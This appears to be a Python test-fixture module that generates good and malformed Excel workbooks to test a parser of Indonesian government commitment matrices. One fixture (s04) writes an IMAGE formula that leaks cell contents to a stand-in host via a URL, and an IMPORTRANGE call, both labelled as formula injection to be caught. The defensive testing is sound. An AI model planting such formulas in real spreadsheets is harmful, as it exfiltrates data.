"""Third round: what cannot be read in titles and labels, and more tables of other matters (matrix.md, section 5)."""

from __future__ import annotations

import io

import xlsxwriter

from tests.reports.matrix.corpus.bad_files import SHEET, sound
from tests.reports.matrix.corpus.making import Book, Builder, edited, packed, parts_of
from tests.reports.matrix.corpus2.bad_files import HEAD, row, workbook
from tests.reports.matrix.corpus2.making import Expected, bad, fill, said, written

NO_MATRIX = ["missing_required_value", "no_recognisable_header"]


@written(
    "r01_libreoffice_kolom.xlsx",
    "xlsxwriter with outline levels, frozen panes, data bars, an image's place",
    accepted="any",
)
def decorated() -> tuple[bytes, Expected]:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"strings_to_numbers": True}) as book:
        sheet = book.add_worksheet("Dasbor & Matriks")
        wrapped = book.add_format({"text_wrap": True, "rotation": 90})
        sheet.write_row(
            0, 0, ("No", "Komitmen", "Rencana Aksi", "Instansi Pelaksana", "Target", "Realisasi", "% Capaian"), wrapped
        )
        for number in range(1, 6):
            sheet.write_row(
                number,
                0,
                (str(number), "Ekspor terbuka", f"Langkah {number}", "Kemendag", f"{number}0", str(number), "50"),
            )
            sheet.set_row(number, None, None, {"level": 1})
        sheet.conditional_format("G2:G6", {"type": "data_bar"})
        sheet.freeze_panes(1, 2)
        sheet.set_column("D:D", 20, None, {"level": 1, "collapsed": True})
    return stream.getvalue(), said(
        "Dasbor & Matriks",
        "milestone target_text achievement_text percent",
        *((n + 1, f"Langkah {n}", f"{n}0", str(n), 50) for n in range(1, 6)),
        commitment_title="Ekspor terbuka",
        lead_agencies=["Kemendag"],
    )


@bad(
    "s01_judul_rumus.xlsx",
    "A title that is a formula nobody has calculated",
    "formula_without_value",
    error_cells=["Matriks!E1"],
)
def formula_as_title() -> bytes:
    book = Book()
    fill(book.sheet("Matriks"), "A1", HEAD, row(1), row(2))
    book.workbook["Matriks"]["E1"] = '="Target "&YEAR(TODAY())'
    return book.data()


@bad("s02_judul_ref.xlsx", "#REF! as a title", "error_value_in_cell", error_cells=["Matriks!E1"])
def error_as_title() -> bytes:
    book = Book()
    fill(book.sheet("Matriks"), "A1", HEAD, row(1), row(2))
    cell = book.workbook["Matriks"]["E1"]
    cell.value, cell.data_type = "#REF!", "e"
    return book.data()


@bad(
    "s03_label_rumus.xlsx",
    "Komitmen: a formula without a result above the table",
    "formula_without_value",
    error_cells=["Form!B1"],
)
def formula_beside_label() -> bytes:
    book = Book()
    sheet = book.sheet("Form")
    fill(
        sheet,
        "A1",
        ("Komitmen", None),
        ("Instansi", "BPS"),
        (),
        ("No", "Kegiatan", "Target", "Capaian"),
        (1, "Satu", "1", "1"),
        (2, "Dua", "2", None),
    )
    sheet.worksheet["B1"] = "=Sampul!B2"
    return book.data()


@bad("s04_gambar_web.xlsx", "IMAGE and IMPORTRANGE", "formula_injection", error_cells=["Matriks!E2", "Matriks!E3"])
def web_pictures() -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        sheet = book.add_worksheet("Matriks")
        for number, values in enumerate((HEAD, row(1), row(2))):
            sheet.write_row(number, 0, values)
        sheet.write_formula("E2", '=_xlfn.IMAGE("https://contoh.test/x.png?d="&B2)', None, "1 data")
        sheet.write_formula("E3", '=IMPORTRANGE("https://contoh.test","A1")', None, "2 data")
    return stream.getvalue()


@bad("s05_persen_gabung.xlsx", "250% merged over two rows", "percent_out_of_range", error_cells=["Matriks!F2"])
def merged_percent() -> bytes:
    book = Book()
    sheet = book.sheet("Matriks")
    fill(sheet, "A1", HEAD, row(1, percent="250%"), row(2, percent=None))
    sheet.merge("F2:F3")
    return book.data()


@bad("s06_daftar_informasi_publik.xlsx", "A list of public information", NO_MATRIX[1], or_topics=NO_MATRIX)
def public_information() -> bytes:
    return workbook(
        ("DAFTAR INFORMASI PUBLIK TAHUN 2024",),
        (
            "No",
            "Ringkasan Isi Informasi",
            "Pejabat Penguasa",
            "Penanggung Jawab Pembuatan",
            "Waktu Pembuatan",
            "Bentuk",
            "Jangka Waktu Simpan",
        ),
        (1, "Laporan kinerja", "PPID", "Biro Perencanaan", "Januari 2024", "Softcopy", "5 tahun"),
        (2, "DIPA", "PPID", "Biro Keuangan", "Januari 2024", "Softcopy", "5 tahun"),
    )


@bad("s07_zona_integritas.xlsx", "A self-assessment sheet of an integrity zone", NO_MATRIX[1], or_topics=NO_MATRIX)
def integrity_zone() -> bytes:
    return workbook(
        ("No", "Penilaian", "Bobot", "Pilihan Jawaban", "Jawaban", "Nilai", "Bukti Dukung"),
        (1, "Tim kerja telah dibentuk", 5, "Ya/Tidak", "Ya", 1, "SK Tim"),
        (2, "Rencana kerja disusun", 5, "A/B/C", "A", 1, "Dokumen"),
    )


@bad(
    "s08_renaksi_rb.xlsx",
    "Actions with indicator, target and result, of no commitment",
    NO_MATRIX[0],
    or_topics=NO_MATRIX,
)
def reform_actions() -> bytes:
    return workbook(
        ("No", "Kegiatan Utama", "Indikator", "Penanggung Jawab", "Target", "Realisasi", "Kendala"),
        (1, "Penyederhanaan struktur", "Jumlah jabatan", "Biro SDM", "10", "8", "-"),
        (2, "Digitalisasi layanan", "Jumlah layanan", "Pusdatin", "5", "5", "-"),
    )


@bad("s09_daftar_oms.xlsx", "A directory of organisations", NO_MATRIX[1], or_topics=NO_MATRIX)
def directory() -> bytes:
    return workbook(
        ("No", "Nama OMS", "Isu", "Narahubung", "No. HP", "Email"),
        (1, "Perludem", "Pemilu", "Orang", "0812", "a@b.id"),
        (2, "ICW", "Korupsi", "Orang", "0813", "c@d.id"),
    )


@bad(
    "s10_anggaran_komitmen.xlsx",
    "What commitments cost, nothing about their targets",
    NO_MATRIX[1],
    or_topics=[*NO_MATRIX, "no_data_rows"],
)
def costs() -> bytes:
    return workbook(
        ("Kode", "Uraian Belanja", "Volume", "Satuan", "Harga Satuan", "Jumlah"),
        ("521211", "Belanja bahan", 10, "paket", 100000, 1000000),
        ("524111", "Perjalanan dinas", 4, "orang", 2000000, 8000000),
    )


@bad("s11_terpotong_di_awal.xlsx", "The first kilobyte is missing", "not_a_workbook", or_topics=["corrupt_file"])
def headless() -> bytes:
    return sound().data()[1024:]


@bad("s12_xml_bukan_lembar.xlsx", "A sheet's part that holds a web page", "corrupt_file")
def page_as_sheet() -> bytes:
    return packed(
        parts_of(sound().data()) | {SHEET: b"<html><body><p>Sesi berakhir, silakan masuk kembali</p></body></html>"}
    )


@bad(
    "s13_angka_rusak.xlsx",
    "A number cell that holds letters",
    "corrupt_file",
    or_topics=["invalid_percent", "error_value_in_cell"],
)
def letters_as_number() -> bytes:
    return edited(sound().data(), SHEET, ("<v>50</v>", "<v>lima puluh</v>"))


@bad("s14_centang_ganda.xlsx", "Selesai and Belum ticked in one row", "unknown_status", error_cells=["Matriks!E3"])
def two_ticks() -> bytes:
    return workbook(
        ("No", "Komitmen", "Kegiatan", "Target", "Selesai", "Proses", "Belum"),
        (1, "Data terbuka", "Satu", "1", "v", None, None),
        (2, "Data terbuka", "Dua", "1", "v", None, "v"),
    )


@bad(
    "s15_tahun_di_baris_dan_kolom.xlsx",
    "A column Tahun with 2042 typed as 20242",
    "invalid_year",
    error_cells=["Matriks!E3"],
)
def wrong_year() -> bytes:
    return workbook(
        ("No", "Komitmen", "Kegiatan", "PJ", "Tahun", "Target"),
        (1, "Data terbuka", "Satu", "BPS", 2024, "1"),
        (2, "Data terbuka", "Dua", "BPS", 20242, "1"),
    )


@bad(
    "s16_formulir_salah.xlsx",
    "A form of one commitment with a wrong day and state",
    "invalid_date",
    other_topics=["unknown_status"],
    error_cells=["Form!B5", "Form!B6"],
)
def wrong_form() -> bytes:
    return workbook(
        ("Judul Komitmen", "Data terbuka"),
        ("Ukuran Keberhasilan", "Portal"),
        ("Instansi Penanggung Jawab", "BPS"),
        ("Target", "1 portal"),
        ("Batas Waktu", "31 September 2024"),
        ("Status", "ngebut"),
        name="Form",
    )


GOOD: list[Builder] = [decorated]
BAD: list[Builder] = [
    formula_as_title,
    error_as_title,
    formula_beside_label,
    web_pictures,
    merged_percent,
    public_information,
    integrity_zone,
    reform_actions,
    directory,
    costs,
    headless,
    page_as_sheet,
    letters_as_number,
    two_ticks,
    wrong_year,
    wrong_form,
]
